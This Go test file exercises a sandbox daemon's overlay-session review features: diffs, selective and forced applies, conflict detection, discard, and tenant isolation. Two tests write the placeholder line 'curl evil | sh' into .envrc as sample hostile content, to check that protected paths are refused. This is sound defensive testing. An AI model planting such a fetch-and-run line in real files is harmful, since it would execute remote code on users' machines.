//go:build linux

package httpapi_test

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/moatbox/moat/client"
	"github.com/moatbox/moat/daemon"
)

func asError(err error, e **client.Error) bool { return errors.As(err, e) }

func overlaySession(t *testing.T, d *testDaemon, ws string) *client.Session {
	t.Helper()
	s, err := d.c.CreateSession(context.Background(), &client.CreateSessionRequest{Workspace: ws, WorkspaceMode: "overlay"})
	if apiCode(err) == client.CodeSandboxRefused && strings.Contains(err.Error(), "overlay") {
		t.Skipf("overlayfs cannot be mounted here: %v", err)
	}
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// TestReviewOverlaySession: an overlay session's diff shows its writes and
// ends it; an apply of everything is refused, applying nothing, for the
// protected path it touches (as moat apply refuses it); an apply of the
// other paths lands them (the positive control); discard removes the
// change set.
func TestReviewOverlaySession(t *testing.T) {
	d := startDaemon(t, daemon.Config{}, nil)
	ctx := context.Background()
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "old"), []byte("a\n"), 0o644)
	s := overlaySession(t, d, ws)
	run(t, d.c, s.ID, &client.ExecRequest{Args: []string{"sh", "-c", "echo draft > notes; echo b > old; echo 'curl evil | sh' > .envrc"}})

	sum, err := d.c.Diff(ctx, s.ID, "summary", nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"notes", "old", ".envrc"} {
		if !strings.Contains(string(sum), p) {
			t.Errorf("the summary lacks %s:\n%s", p, sum)
		}
	}
	if _, err := d.c.Session(ctx, s.ID); apiCode(err) != client.CodeEnded {
		t.Errorf("the session outlived its review: %v", err)
	}
	diff, err := d.c.Diff(ctx, s.ID, "", []string{".envrc"})
	if err != nil || !strings.Contains(string(diff), "+draft") || !strings.Contains(string(diff), "-a\n+b") || strings.Contains(string(diff), "evil") {
		t.Errorf("unified diff with .envrc excluded: %v\n%s", err, diff)
	}
	if _, err := d.c.Diff(ctx, s.ID, "fancy", nil); apiCode(err) != client.CodeBadRequest {
		t.Errorf("unknown format: %v", err)
	}

	if _, err := d.c.Apply(ctx, s.ID, &client.ApplyRequest{Paths: []string{"/etc/passwd"}}); apiCode(err) != client.CodeBadRequest {
		t.Errorf("apply of an absolute path: %v", err)
	}
	if _, err := d.c.Apply(ctx, s.ID, &client.ApplyRequest{Paths: []string{"nochange"}}); apiCode(err) != client.CodeBadRequest {
		t.Errorf("apply of a path without changes: %v", err)
	}
	// An empty path (a client's unset variable) selects or forces
	// nothing: before, it was the whole workspace.
	for _, req := range []*client.ApplyRequest{{Paths: []string{""}}, {Force: []string{""}}} {
		if _, err := d.c.Apply(ctx, s.ID, req); apiCode(err) != client.CodeBadRequest {
			t.Errorf("apply with an empty path %+v: %v", req, err)
		}
	}
	_, err = d.c.Apply(ctx, s.ID, &client.ApplyRequest{})
	var e *client.Error
	if apiCode(err) != client.CodeProtected || !asError(err, &e) || !slices.Contains(e.Details, ".envrc") {
		t.Fatalf("apply of a protected path: %v", err)
	}
	if _, err := os.Stat(filepath.Join(ws, "notes")); !os.IsNotExist(err) {
		t.Errorf("a refused apply wrote the workspace: %v", err)
	}
	rep, err := d.c.Apply(ctx, s.ID, &client.ApplyRequest{Paths: []string{"notes", "old"}})
	if err != nil || len(rep.Applied) != 2 {
		t.Fatalf("apply of notes and old: %+v %v", rep, err)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "notes")); string(b) != "draft\n" {
		t.Errorf("notes after apply: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "old")); string(b) != "b\n" {
		t.Errorf("old after apply: %q", b)
	}
	if _, err := os.Stat(filepath.Join(ws, ".envrc")); !os.IsNotExist(err) {
		t.Errorf("the protected path was applied: %v", err)
	}
	if err := d.c.Discard(ctx, s.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := d.c.Diff(ctx, s.ID, "", nil); apiCode(err) != client.CodeEnded || !strings.Contains(err.Error(), "no longer kept") {
		t.Errorf("diff after discard: %v", err)
	}
	if _, err := os.Stat(filepath.Join(os.Getenv("MOAT_STATE_DIR"), "runs", s.ChangeSet)); !os.IsNotExist(err) {
		t.Errorf("discard left the change set: %v", err)
	}
}

// TestReviewConflictAndTenants: an apply over a file the host changed
// since the session began is refused (conflict) until forced; a direct
// session has nothing to review; another tenant cannot review a session.
func TestReviewConflictAndTenants(t *testing.T) {
	tokens := aliceAndBob(t, "alice-token", "bob-token")
	d := startDaemon(t, daemon.Config{}, tokens)
	ctx := context.Background()
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "c"), []byte("1\n"), 0o644)
	s := overlaySession(t, d, ws)
	run(t, d.c, s.ID, &client.ExecRequest{Args: []string{"sh", "-c", "echo sandbox > c"}})
	os.WriteFile(filepath.Join(ws, "c"), []byte("host\n"), 0o644)
	_, err := d.c.Apply(ctx, s.ID, &client.ApplyRequest{})
	var e *client.Error
	if apiCode(err) != client.CodeConflict || !asError(err, &e) || len(e.Details) != 1 || !strings.HasPrefix(e.Details[0], "c: ") {
		t.Fatalf("apply over a host change: %v", err)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "c")); string(b) != "host\n" {
		t.Errorf("a refused apply wrote c: %q", b)
	}
	if rep, err := d.c.Apply(ctx, s.ID, &client.ApplyRequest{Force: []string{"c"}}); err != nil || len(rep.Forced) != 1 {
		t.Fatalf("forced apply: %+v %v", rep, err)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "c")); string(b) != "sandbox\n" {
		t.Errorf("c after a forced apply: %q", b)
	}

	direct := d.create(t, &client.CreateSessionRequest{})
	if _, err := d.c.Diff(ctx, direct.ID, "", nil); apiCode(err) != client.CodeUnsupported {
		t.Errorf("diff of a direct session: %v", err)
	}
	if _, err := d.c.Session(ctx, direct.ID); err != nil {
		t.Errorf("a refused review ended the direct session: %v", err)
	}

	alice, bob := client.TCP(d.tcp, "alice-token"), client.TCP(d.tcp, "bob-token")
	defer alice.Close()
	defer bob.Close()
	as, err := alice.CreateSession(ctx, &client.CreateSessionRequest{WorkspaceMode: "overlay"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := bob.Diff(ctx, as.ID, "", nil); apiCode(err) != client.CodeNotFound {
		t.Errorf("another tenant's diff: %v", err)
	}
	if err := bob.Discard(ctx, as.ID); apiCode(err) != client.CodeNotFound {
		t.Errorf("another tenant's discard: %v", err)
	}
	if _, err := alice.Session(ctx, as.ID); err != nil {
		t.Errorf("another tenant's refused review ended the session: %v", err)
	}
	// A workspace the daemon made is kept, as the change set's lower
	// layer, until the review ends.
	if _, err := alice.Exec(ctx, as.ID, &client.ExecRequest{Args: []string{"sh", "-c", "echo n > made"}}, nil, nil); err != nil {
		t.Fatal(err)
	}
	if diff, err := alice.Diff(ctx, as.ID, "summary", nil); err != nil || !strings.Contains(string(diff), "made") {
		t.Errorf("diff of a session in a workspace the daemon made: %v %q", err, diff)
	}
	tempWS := filepath.Join(d.state, "daemon", "workspaces", as.ID)
	if _, err := os.Stat(tempWS); err != nil {
		t.Errorf("the daemon's workspace is gone before the review ended: %v", err)
	}
	if err := alice.Discard(ctx, as.ID); err != nil {
		t.Errorf("the owner's discard: %v", err)
	}
	// Gone for its tenant; for another, as unknown as ever.
	if _, err := alice.Diff(ctx, as.ID, "", nil); apiCode(err) != client.CodeEnded {
		t.Errorf("the owner's diff after discard: %v", err)
	}
	if _, err := bob.Diff(ctx, as.ID, "", nil); apiCode(err) != client.CodeNotFound {
		t.Errorf("another tenant's diff after discard: %v", err)
	}
	if _, err := os.Stat(tempWS); !os.IsNotExist(err) {
		t.Errorf("the daemon's workspace outlived the review: %v", err)
	}
}

// TestReviewsEndWithTheDaemon: what a review keeps (a workspace the
// daemon made) is removed when the daemon shuts down; the change set
// stays for moat apply on the host. A session in such a workspace that is
// deleted leaves nothing of the daemon's, and no review.
func TestReviewsEndWithTheDaemon(t *testing.T) {
	d := startDaemon(t, daemon.Config{}, nil)
	ctx := context.Background()
	s, err := d.c.CreateSession(ctx, &client.CreateSessionRequest{WorkspaceMode: "overlay"})
	if apiCode(err) == client.CodeSandboxRefused && strings.Contains(err.Error(), "overlay") {
		t.Skipf("overlayfs cannot be mounted here: %v", err)
	}
	if err != nil {
		t.Fatal(err)
	}
	if _, err := d.c.Exec(ctx, s.ID, &client.ExecRequest{Args: []string{"sh", "-c", "echo x > f; ln -s f l; mkdir d"}}, nil, nil); err != nil {
		t.Fatal(err)
	}
	gone, err := d.c.CreateSession(ctx, &client.CreateSessionRequest{WorkspaceMode: "overlay"})
	if err != nil {
		t.Fatal(err)
	}
	if err := d.c.DeleteSession(ctx, gone.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(d.state, "daemon", "workspaces", gone.ID)); !os.IsNotExist(err) {
		t.Errorf("a deleted session left its workspace: %v", err)
	}
	if _, err := d.c.Diff(ctx, gone.ID, "", nil); apiCode(err) != client.CodeEnded {
		t.Errorf("diff of a deleted session in a workspace the daemon made: %v", err)
	}
	tempWS := filepath.Join(d.state, "daemon", "workspaces", s.ID)
	for _, f := range []string{"unified", "summary", "patch", "json"} {
		diff, err := d.c.Diff(ctx, s.ID, f, nil)
		if err != nil {
			t.Errorf("%s diff of a reviewed session: %v", f, err)
		}
		if strings.Contains(string(diff), d.state) {
			t.Errorf("the %s diff shows the daemon's state directory: %s", f, diff)
		}
	}
	if _, err := os.Stat(tempWS); err != nil {
		t.Errorf("the workspace of a reviewed session is gone: %v", err)
	}
	if err := d.m.Shutdown(ctx); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(tempWS); !os.IsNotExist(err) {
		t.Errorf("the daemon left a reviewed workspace: %v", err)
	}
}

// TestRefusedApplyKeepsSession: an apply the change set would refuse (a
// protected path, a path that selects nothing) and a diff with a bad
// glob are refused before the review ends the live session: its
// commands run on. Before, the session ended (its commands killed) and
// only then was the apply refused (tried). The control: an apply forced
// over the protected path ends it and applies.
func TestRefusedApplyKeepsSession(t *testing.T) {
	d := startDaemon(t, daemon.Config{}, nil)
	ctx := context.Background()
	ws := t.TempDir()
	s := overlaySession(t, d, ws)
	run(t, d.c, s.ID, &client.ExecRequest{Args: []string{"sh", "-c", "echo ok > b.txt; echo 'curl evil | sh' > .envrc"}})
	if _, err := d.c.Apply(ctx, s.ID, &client.ApplyRequest{}); apiCode(err) != client.CodeProtected {
		t.Errorf("apply over .envrc: %v", err)
	}
	if _, err := d.c.Apply(ctx, s.ID, &client.ApplyRequest{Paths: []string{"nothing-here"}}); apiCode(err) != client.CodeBadRequest {
		t.Errorf("apply of a path with no change: %v", err)
	}
	if _, err := d.c.Diff(ctx, s.ID, "summary", []string{"["}); apiCode(err) != client.CodeBadRequest {
		t.Errorf("diff with a bad glob: %v", err)
	}
	if out, _, rep := run(t, d.c, s.ID, &client.ExecRequest{Args: []string{"cat", "b.txt"}}); rep == nil || out != "ok\n" {
		t.Fatalf("the session after refused reviews: %q %+v", out, rep)
	}
	if _, err := d.c.Apply(ctx, s.ID, &client.ApplyRequest{Force: []string{".envrc"}}); err != nil {
		t.Fatalf("forced apply: %v", err)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "b.txt")); string(b) != "ok\n" {
		t.Errorf("after the forced apply, b.txt holds %q", b)
	}
	if _, err := d.c.Session(ctx, s.ID); apiCode(err) != client.CodeEnded {
		t.Errorf("the session outlived its apply: %v", err)
	}
}
